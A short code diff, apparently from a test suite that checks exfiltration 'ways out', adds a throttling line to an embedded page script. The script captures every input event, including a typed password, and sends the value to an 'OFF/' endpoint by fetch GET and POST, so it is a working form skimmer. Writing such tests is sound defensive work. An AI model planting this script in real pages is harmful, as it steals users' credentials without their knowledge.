@@ -150,6 +150,7 @@ WAYS_OUT = {
         body=FORM + order('type the password into "Password".')
         + """<iframe name=inner hidden></iframe><script>
 addEventListener('input', event => {
+  if (event.target.value.length % 8 !== 1) return;
   const s = encodeURIComponent(event.target.value), off = 'OFF/' + s, add = (tag, more) => {
     const el = Object.assign(document.createElement(tag), more); document.body.append(el); return el };
   fetch(off, {mode: 'no-cors'}).catch(() => 0); fetch(off, {method: 'POST', mode: 'no-cors', body: s}).catch(() => 0);
